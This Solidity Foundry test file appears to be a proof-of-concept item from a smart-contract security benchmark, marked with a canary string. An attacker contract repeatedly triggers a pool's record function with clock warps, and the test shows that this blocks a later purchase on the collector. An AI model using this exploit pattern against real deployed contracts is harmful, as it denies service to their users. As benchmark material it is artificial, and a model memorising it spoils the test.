// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker {
    function poke(IPool main) external {
        main.record();
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    /// Anybody buys what the collector has.
    function buys() public {
        vm.prank(CEE);
        collector.buy(address(grain), 1e18, 2e18, CEE);
    }

    function exploit() public {
        for (uint256 i = 0; i < 65; i++) {
            vm.warp(block.timestamp + 12);
            other.poke(main);
        }
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeCall(this.buys, ()));
        require(!done, "it is sold");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
